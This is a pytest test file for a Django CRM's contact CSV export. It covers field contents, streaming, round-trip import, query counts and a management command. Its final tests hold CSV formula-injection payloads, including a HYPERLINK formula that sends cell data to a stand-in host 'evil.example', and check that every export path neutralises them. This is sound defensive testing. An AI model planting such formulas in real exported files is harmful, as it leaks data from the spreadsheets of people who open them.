import csv
import io

import pytest
from django.core.files.base import ContentFile
from django.core.management import CommandError, call_command

from crm.exports import contacts_csv_response
from crm.imports import import_run_create, import_run_start
from crm.models import Contact
from crm.tests.factories import CompanyFactory, ContactFactory, SegmentFactory, TagFactory

pytestmark = pytest.mark.django_db


def rows_of(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


@pytest.fixture
def people():
    vip = TagFactory(name="vip")
    acme = CompanyFactory(domain="acme.example", name="Acme")
    ana = ContactFactory(email="ana@acme.example", first_name="Ana", last_name="Ávila", company=acme,
                         custom_fields={"plan": "gold"}, tags=[vip, TagFactory(name="beta")])
    bo = ContactFactory(email="bo@example.com", first_name="Bo", custom_fields={"size": 12})
    ContactFactory(email="gone@example.com", erased_at="2026-01-01T00:00:00Z")
    return ana, bo


def test_export_holds_fields_company_tags_and_custom_fields_but_not_erased_people(people):
    rows = rows_of(contacts_csv_response(Contact.objects.all(), "all.csv"))
    assert [r["Email"] for r in rows] == ["ana@acme.example", "bo@example.com"]
    ana, bo = rows
    assert (ana["Last Name"], ana["Company"], ana["Company Domain"], ana["Tags"]) == ("Ávila", "Acme",
                                                                                     "acme.example", "beta; vip")
    assert (ana["custom:plan"], ana["custom:size"], bo["custom:size"]) == ("gold", "", "12")
    assert ana["Lifecycle"] == "new" and ana["Engagement Score"] == "0"


def test_the_response_is_a_streamed_attachment(people):
    response = contacts_csv_response(Contact.objects.all(), 'we"ird.csv')
    assert response.streaming and response["Content-Disposition"] == 'attachment; filename="weird.csv"'


def test_an_export_imports_back_unchanged(people):
    text = b"".join(contacts_csv_response(Contact.objects.all()).streaming_content)
    Contact.objects.all().delete()
    run = import_run_start(run=import_run_create(upload=ContentFile(text, name="back.csv")), background=False)
    assert run.created_count == 2 and run.failed_count == 0
    ana = Contact.objects.get(email="ana@acme.example")
    assert (ana.last_name, ana.company.name, ana.custom_fields) == ("Ávila", "Acme", {"plan": "gold"})
    assert sorted(ana.tags.values_list("name", flat=True)) == ["beta", "vip"]


def test_api_exports_a_segment_or_a_filtered_list_in_a_fixed_number_of_queries(
        people, api_as, django_assert_num_queries):
    api = api_as("Analyst")
    segment = SegmentFactory(rules={"op": "and", "rules": [{"field": "tags", "operator": "any", "value": ["vip"]}]})
    # permissions (2), the segment, custom field names, then the contacts with company and tag names in each row
    with django_assert_num_queries(5):
        rows = rows_of(api.get(f"/api/exports/contacts/?segment={segment.pk}"))
    assert [r["Email"] for r in rows] == ["ana@acme.example"]
    assert [r["Email"] for r in rows_of(api.get("/api/exports/contacts/?search=bo"))] == ["bo@example.com"]


def test_api_export_with_an_unknown_segment_is_a_400(api_as):
    answer = api_as("Analyst").get("/api/exports/contacts/?segment=999")
    assert answer.status_code == 400 and "segment" in answer.json()["fields"]


def test_command_exports_a_segment_to_a_file(people, tmp_path, capsys):
    SegmentFactory(name="Acme people", rules={"op": "and", "rules": [
        {"field": "domain", "operator": "in", "value": ["acme.example"]}]})
    target = tmp_path / "out.csv"
    call_command("export_contacts", str(target), "--segment", "Acme people")
    assert "Exported 1 contacts" in capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert [r["Email"] for r in rows] == ["ana@acme.example"]


def test_command_refuses_an_unknown_segment(tmp_path):
    with pytest.raises(CommandError, match="No segment named 'Nope'"):
        call_command("export_contacts", str(tmp_path / "out.csv"), "--segment", "Nope")


def test_an_export_reads_every_chunk_in_the_same_statements_with_tags_in_the_row(
        people, settings, django_assert_num_queries):
    settings.CRM_EXPORT_CHUNK_ROWS = 2
    vip = people[0].tags.get(name="vip")
    for index in range(7):
        ContactFactory(email=f"c{index}@example.com", tags=[vip], company=CompanyFactory(name=f"Co {index}"))
    with django_assert_num_queries(2):  # custom field names, then the contacts (5 chunks of 2)
        rows = rows_of(contacts_csv_response(Contact.objects.all()))
    assert len(rows) == 9 and {row["Tags"] for row in rows[2:]} == {"vip"}
    assert [row["Company"] for row in rows[2:]] == [f"Co {index}" for index in range(7)]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def formula_contact():
    return ContactFactory(email="eve@example.com", first_name=FORMULA, last_name="+1+1", job_title="-2+3",
                          city="@SUM(A1)", phone="\t=1", custom_fields={"note": "\r=cmd"},
                          tags=[TagFactory(name="=tag")])


def assert_no_formula(rows: list[dict]) -> None:
    [row] = [r for r in rows if r["Email"] == "eve@example.com"]
    assert (row["First Name"], row["Last Name"], row["Job Title"], row["City"], row["Phone"], row["custom:note"],
            row["Tags"]) == ("'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=cmd", "'=tag")
    every_cell = [cell for r in rows for cell in r.values()]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_formula_cells_are_quoted_in_every_export(formula_contact, api_as, client, make_user, tmp_path):
    assert_no_formula(rows_of(contacts_csv_response(Contact.objects.all())))
    assert_no_formula(rows_of(api_as("Analyst").get("/api/exports/contacts/")))
    client.force_login(make_user("mara", role="Marketer"))
    assert_no_formula(rows_of(client.get("/contacts/export/")))
    client.force_login(make_user("boss", is_staff=True, is_superuser=True))
    assert_no_formula(rows_of(client.post("/admin/crm/contact/", {"action": "export_contacts",
                                                                    "_selected_action": [formula_contact.pk]})))
    target = tmp_path / "out.csv"
    call_command("export_contacts", str(target))
    assert_no_formula(list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8-sig")))))


def test_a_quoted_formula_imports_back_as_the_value_it_was(formula_contact):
    text = b"".join(contacts_csv_response(Contact.objects.all()).streaming_content)
    Contact.objects.all().delete()
    run = import_run_start(run=import_run_create(upload=ContentFile(text, name="back.csv")), background=False)
    assert run.created_count == 1 and run.failed_count == 0
    eve = Contact.objects.get()
    assert (eve.first_name, eve.last_name, eve.job_title, eve.city) == (FORMULA, "+1+1", "-2+3", "@SUM(A1)")
    assert eve.custom_fields == {"note": "\r=cmd"}
